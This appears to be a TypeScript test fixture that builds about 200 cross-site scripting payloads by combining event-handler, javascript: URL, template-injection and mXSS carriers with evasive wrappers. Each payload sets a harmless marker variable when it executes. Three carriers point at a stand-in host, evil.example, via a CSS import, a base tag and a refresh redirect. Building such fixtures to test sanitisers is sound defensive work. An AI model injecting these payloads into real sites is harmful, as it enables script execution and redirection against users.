/** Texts that act if a page treats them as more than text. */
export const carriers = [
  '<img src=x onerror="HIT">',
  '<svg onload="HIT">',
  '<script>HIT</script>',
  '"><iframe srcdoc="<script>parent.HIT</script>">',
  '<a href="javascript:HIT">x</a>',
  'javascript:HIT',
  '<details open ontoggle="HIT">',
  "'-HIT-'",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
  '${HIT}',
  '{{constructor.constructor("HIT")()}}',
  '<style>@import "http://evil.example/x"</style>',
  '<form action="javascript:HIT"><input autofocus onfocus="HIT">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror="HIT">',
  '<base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '\u202e<img src=x onerror="HIT">',
  '</title><script>HIT</script>',
  '<object data="javascript:HIT">',
  '<video><source onerror="HIT">',
  '&lt;img src=x onerror=HIT&gt;',
]

/** Contexts in which they may appear. */
const wrappers = [
  (one: string) => one,
  (one: string) => one.toUpperCase(),
  (one: string) => `DEV${one}`,
  (one: string) => `${one}\n${one}`,
  (one: string) => one.replaceAll('<', '<\t'),
  (one: string) => `]]>${one}`,
  (one: string) => `<!--${one}-->`,
  (one: string) => `\u0000${one}`,
  (one: string) => `"'>${one}`,
  (one: string) => `${one.repeat(4)}`,
  (one: string) => `\ufeff ${one}`,
]

/** Two hundred texts. Each sets `globalThis.hit` if it runs. */
export const payloads = [
  ...new Set(
    wrappers.flatMap((wrap) =>
      carriers.map((carrier, index) => wrap(carrier).replaceAll('HIT', `globalThis.hit=${index}`)),
    ),
  ),
].slice(0, 200)
